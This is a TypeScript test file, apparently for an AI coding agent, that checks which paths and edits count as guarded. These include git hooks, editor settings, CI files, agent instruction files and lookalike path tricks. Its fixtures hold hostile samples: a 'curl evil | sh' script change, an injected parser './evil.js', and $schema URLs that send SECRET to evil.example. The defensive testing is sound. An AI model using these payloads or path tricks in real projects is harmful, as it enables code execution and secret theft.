/** Files that an agent does not change like others. */
import assert from 'node:assert/strict';
import fc from 'fast-check';
import { changesScripts, guardOf, nameProblem, namesSchema } from '../../../../src/core/agent/guarded.ts';

describe('files that are asked about whatever is allowed', () => {
  const guarded: readonly (readonly [string, ReturnType<typeof guardOf>])[] = [
    ['.vscode/settings.json', 'runs'],
    ['packages/a/.VSCode/tasks.json', 'runs'],
    ['team.code-workspace', 'runs'],
    ['.git/hooks/pre-commit', 'runs'],
    ['.git/config', 'runs'],
    ['GIT~1/config', 'runs'],
    ['.g\u200cit/config', 'runs'],
    ['．ｇｉｔ/config', 'runs'],
    ['.v\u017fcode/settings.json', 'runs'],
    ['.git./config', 'runs'],
    ['.git::$INDEX_ALLOCATION/config', 'runs'],
    [String.raw`a\.git\config`, 'runs'],
    ['sub/.git', 'runs'],
    ['sub/.git.', 'runs'],
    ['sub/GIT~1', 'runs'],
    ['evil/config', 'runs'],
    ['evil/config.worktree', 'runs'],
    ['.cargo/config.toml', 'runs'],
    ['.mvn/jvm.config', 'runs'],
    ['.yarn/releases/yarn-4.0.0.cjs', 'runs'],
    ['.pnp.cjs', 'runs'],
    ['.pnp.loader.mjs', 'runs'],
    ['.nvim.lua', 'runs'],
    ['eslint.config.js', 'runs'],
    ['a/prettier.config.mts', 'runs'],
    ['.eslintrc.json', 'runs'],
    ['.prettierrc', 'runs'],
    ['.agents/skills/x/a.md', 'steers'],
    ['skills/x/SKILL.md', 'steers'],
    ['.bashrc', 'runs'],
    ['.zprofile', 'runs'],
    ['.zshenv', 'runs'],
    ['config.fish', 'runs'],
    ['.envrc', 'runs'],
    ['.npmrc', 'runs'],
    ['.husky/pre-push', 'runs'],
    ['.devcontainer/devcontainer.json', 'runs'],
    ['.github/workflows/ci.yml', 'runs'],
    ['.github/actions/x/action.yml', 'builds'],
    ['.gitlab-ci.yml', 'builds'],
    ['.gitattributes', 'builds'],
    ['AGENTS.md', 'steers'],
    ['docs/agents.md', 'steers'],
    ['.deepseek/prompts/fix.md', 'steers'],
    ['.deepseekignore', 'steers'],
    ['CLAUDE.md', 'steers'],
    ['src/\u0440arse.ts', 'lookalike'],
  ];
  for (const [path, guard] of guarded) {
    it(`${JSON.stringify(path)} as one that ${guard}`, () => assert.equal(guardOf(path), guard));
  }

  it('and no others', () => {
    for (const path of [
      'src/a.ts',
      'package.json',
      'README.md',
      'git/config.ts',
      'src/config/a.ts',
      'eslint.test.js',
      'docs/vscode/a.md',
      'привет.md',
      '说明.md',
      'é.ts',
    ]) {
      assert.equal(guardOf(path), undefined, path);
    }
  });

  it('in whatever case they are written', () => {
    const paths = fc.constantFrom(...guarded.filter(([, guard]) => guard !== 'lookalike'));
    fc.assert(
      fc.property(paths, fc.array(fc.boolean(), { minLength: 60, maxLength: 60 }), ([path, guard], upper) => {
        const written = path
          .split('')
          .map((char, at) => (upper[at] === true ? char.toUpperCase() : char))
          .join('');
        assert.equal(guardOf(written), guard, written);
      }),
    );
  });
});

describe('the scripts of a package', () => {
  const old = '{ "name": "a", "scripts": { "test": "mocha" } }';
  it('are asked about when they change', () => {
    assert.equal(changesScripts('package.json', old, old.replace('mocha', 'curl evil | sh')), true);
    assert.equal(changesScripts('a/PACKAGE.JSON', old, old.replace('"test"', '"postinstall"')), true);
    assert.equal(changesScripts('package.json', '', old), true);
    assert.equal(changesScripts('package.json', '{}', '{ "eslintConfig": { "parser": "./evil.js" } }'), true);
    assert.equal(changesScripts('package.json', old, '{ // lenient\n}'), true);
  });
  it('are not when they stay', () => {
    assert.equal(changesScripts('package.json', old, old.replace('"a"', '"b", "version": "1.0.0"')), false);
    assert.equal(changesScripts('package.json', '', '{ "name": "a" }'), false);
    assert.equal(changesScripts('src/a.ts', 'a', 'b'), false);
  });
});

describe('schemas that the editor would fetch', () => {
  it('are asked about when they are new', () => {
    for (const after of [
      '{"$schema": "https://evil.example/?q=SECRET"}',
      "{ $schema : '//evil.example/x' }",
      '# yaml-language-server: $schema=http://evil.example/x',
    ]) {
      assert.equal(namesSchema('{}', after), true, after);
      assert.equal(namesSchema(after, `${after} `), false, after);
    }
    assert.equal(namesSchema('{}', '{"$schema": "./own.json"}'), false);
  });
});

describe('names that are never written', () => {
  it('are those that file systems read in another way', () => {
    for (const path of ['a\u202ets', 'src/a.ts.', 'src /a.ts', 'a.ts::$DATA', 'a.ts:stream'])
      assert.notEqual(nameProblem(path), undefined, path);
    for (const path of ['a.ts', './a.ts', '../a.ts', 'c:/a.ts', 'a b/c d.ts', '.env'])
      assert.equal(nameProblem(path), undefined, path);
  });
});
